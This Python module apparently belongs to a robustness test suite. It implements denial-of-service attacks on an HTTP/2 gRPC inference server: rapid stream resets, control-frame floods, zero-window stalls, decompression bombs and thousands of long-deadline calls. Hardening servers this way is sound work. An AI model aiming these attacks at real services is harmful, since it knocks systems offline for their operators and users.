"""Attacks over HTTP/2 and gRPC, by frames."""

from __future__ import annotations

import contextlib
import socket
import time
import zlib

from glassworks.conformance.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    WINDOW,
    asked,
    block,
    frame,
    message,
)
from tests.hostile.place import Place, connections, hold, pour


def head(method: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The block of a call's headers."""
    return block(asked(b"/inference.GRPCInferenceService/" + method, *more))


def opened(place: Place, settings: bytes = b"", receive_bytes: int | None = None) -> socket.socket:
    """A connection that has said hello."""
    client = place.connect(place.grpc, receive_bytes)
    client.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return client


def attack_silent(place: Place, seconds: float) -> None:
    with connections(place, 200, place.grpc) as clients:
        hold(clients, PREFACE[:10], seconds)


def attack_unread_pings(place: Place, seconds: float) -> None:
    with opened(place, receive_bytes=4096) as client:
        pour(client, frame(PING, 0, 0, b"x" * 8) * 4000, seconds)


def attack_unread_settings(place: Place, seconds: float) -> None:
    with opened(place, receive_bytes=4096) as client:
        pour(client, frame(SETTINGS, 0, 0) * 4000, seconds)


def attack_many_unread_answers(place: Place, seconds: float) -> None:
    """Calls with a window of 0: every answer waits."""
    with opened(place, b"\0\4\0\0\0\0") as client:
        for call in range(1, 20_001, 2):
            with contextlib.suppress(OSError):
                client.sendall(frame(HEADERS, END_HEADERS, call, head(b"ServerMetadata")))
                client.sendall(frame(DATA, END_STREAM, call, message()))
        time.sleep(seconds)


def _with_streams(place: Place, count: int = 1000) -> socket.socket:
    client = opened(place)
    block = head(b"ModelStreamInfer")
    client.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * each + 1, block) for each in range(count)))
    time.sleep(0.3)
    return client


def attack_settings_by_the_thousand(place: Place, seconds: float) -> None:
    with _with_streams(place) as client:
        pour(client, frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff" * 20_000), seconds)


def attack_empty_settings(place: Place, seconds: float) -> None:
    with _with_streams(place) as client:
        pour(client, frame(SETTINGS, 0, 0) * 7000, seconds)


def attack_window_updates(place: Place, seconds: float) -> None:
    with _with_streams(place) as client:
        pour(client, frame(WINDOW, 0, 0, b"\0\0\0\1") * 20_000, seconds)


def attack_table_sizes(place: Place, seconds: float) -> None:
    with opened(place) as client:
        pour(client, frame(HEADERS, END_HEADERS, 1, b"\x20" * 1_000_000 + head(b"ServerLive")), seconds)


def attack_empty_continuations(place: Place, seconds: float) -> None:
    with opened(place) as client:
        client.sendall(frame(HEADERS, 0, 1, b""))
        pour(client, frame(CONTINUATION, 0, 1) * 7000, seconds)


def attack_empty_data(place: Place, seconds: float) -> None:
    with _with_streams(place, 10) as client:
        pour(client, frame(DATA, 0, 1) * 7000, seconds)


def attack_rapid_resets(place: Place, seconds: float) -> None:
    with opened(place) as client:
        end, call, block = time.monotonic() + seconds, 1, head(b"ModelInfer")
        with contextlib.suppress(OSError):
            while time.monotonic() < end:
                burst = b""
                for _ in range(500):
                    burst += frame(HEADERS, END_HEADERS, call, block) + frame(RESET, 0, call, b"\0\0\0\x08")
                    call += 2
                client.sendall(burst)


def attack_endless_unary(place: Place, seconds: float) -> None:
    with opened(place) as client:
        client.sendall(frame(HEADERS, END_HEADERS, 1, head(b"ModelInfer")))
        pour(client, frame(DATA, 0, 1, message(b"x" * 16_000)), seconds)


def attack_endless_stream(place: Place, seconds: float) -> None:
    """Requests of a stream, sent faster than they are answered, for a client that reads nothing."""
    with opened(place, b"\0\4\0\0\0\0") as client:
        client.sendall(frame(HEADERS, END_HEADERS, 1, head(b"ModelStreamInfer")))
        pour(client, frame(DATA, 0, 1, message(b"\n\6nobody" + b":\x80\x70" + bytes(14_336))) * 10, seconds)


def attack_half_messages(place: Place, seconds: float) -> None:
    """A thousand streams, each with some of a message."""
    with _with_streams(place) as client:
        for each in range(1000):
            with contextlib.suppress(OSError):
                client.settimeout(1.0)
                client.sendall(frame(DATA, 0, 2 * each + 1, b"\0\1\0\0\0" + bytes(16_000)))
        time.sleep(seconds)


def attack_deflated_zeros(place: Place, seconds: float) -> None:
    zeros = zlib.compress(bytes(64 << 20), 9)
    with opened(place) as client:
        client.sendall(frame(HEADERS, END_HEADERS, 1, head(b"ModelInfer", (b"grpc-encoding", b"deflate"))))
        content = message(zeros, packed=1)
        with contextlib.suppress(OSError):
            for _ in range(20):
                for begin in range(0, len(content), 16_000):
                    client.sendall(frame(DATA, 0, 1, content[begin : begin + 16_000]))
        time.sleep(seconds)


def attack_deflated_fields(place: Place, seconds: float) -> None:
    """A small message that decodes to millions of empty fields."""
    fields = zlib.compress(b"\n\6digits" + b"*\0" * (8 << 20), 9)
    with opened(place) as client:
        client.sendall(frame(HEADERS, END_HEADERS, 1, head(b"ModelInfer", (b"grpc-encoding", b"deflate"))))
        content = message(fields, packed=1)
        with contextlib.suppress(OSError):
            for begin in range(0, len(content), 16_000):
                last = begin + 16_000 >= len(content)
                client.sendall(frame(DATA, END_STREAM if last else 0, 1, content[begin : begin + 16_000]))
        time.sleep(seconds)


def attack_long_deadlines(place: Place, seconds: float) -> None:
    """Twenty thousand calls with a deadline of a day, as patient clients send them."""
    with opened(place) as client:
        end, call = time.monotonic() + 3 * seconds, 1
        block = head(b"ServerLive", (b"grpc-timeout", b"24H"))
        client.setblocking(False)
        while call < 40_001 and time.monotonic() < end:
            burst = b"".join(
                frame(HEADERS, END_HEADERS, number, block) + frame(DATA, END_STREAM, number, message())
                for number in range(call, call + 200, 2)
            )
            call += 200
            if not _sent(client, burst, end):
                return


def _sent(client: socket.socket, data: bytes, end: float) -> bool:
    """Send all of it, reading what comes meanwhile; whether the server is still there."""
    while data and time.monotonic() < end:
        with contextlib.suppress(BlockingIOError):
            if not client.recv(1 << 20):
                return False
        try:
            data = data[client.send(data) :]
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            return False
    return True
